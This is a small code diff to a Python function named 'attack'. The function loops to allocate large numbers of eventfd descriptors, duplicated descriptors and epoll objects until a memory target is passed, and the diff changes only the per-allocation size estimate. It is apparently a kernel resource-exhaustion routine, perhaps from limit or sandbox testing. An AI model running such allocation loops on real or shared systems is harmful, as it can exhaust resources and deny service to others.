@@ -7,7 +7,7 @@ import select
 import time
 def attack(lure):
     kept, taken, end = [], 0, time.monotonic() + lure["seconds"]
-    while taken * 128 < lure["memory"] + (64 << 20):
+    while taken * 192 < lure["memory"] + (64 << 20):
         files = [os.eventfd(0) for _ in range(78)]
         numbers = [os.dup(files[0]) for _ in range(78)]
         polls = [select.epoll() for _ in range(30)]
